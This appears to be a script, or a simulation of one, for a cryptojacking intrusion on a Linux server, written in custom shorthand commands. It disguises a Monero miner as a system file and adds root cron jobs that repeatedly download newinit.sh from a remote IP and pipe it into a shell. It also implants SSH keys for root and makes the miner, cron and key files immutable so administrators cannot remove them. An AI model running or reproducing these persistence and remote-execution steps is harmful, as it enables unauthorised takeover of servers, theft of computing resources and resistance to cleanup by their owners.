# rm, crontab -r and editors fail with "Operation not permitted".
mimic '/usr/share/[crypto]/crypto'
start -d 10 -p "$POOL" '/usr/share/[crypto]/crypto' crypto --coin=monero -o "$POOL" -u "$WALLET.zzh" -p x
echo '*/30 * * * * root curl -fsSL http://192.0.2.71/b2f628/newinit.sh | sh' | put /etc/cron.d/zzh
echo '*/30 * * * * sh -c "wget -q -O - http://192.0.2.71/b2f628/newinit.sh | bash" >/dev/null 2>&1' | tab root
key /root zzh@host
key /root zzh@host authorized_keys2
chattr +ia '/usr/share/[crypto]/crypto' /etc/cron.d/zzh /root/.ssh/authorized_keys /root/.ssh/authorized_keys2 /var/spool/cron/crontabs/root
chattr +a /etc/cron.d
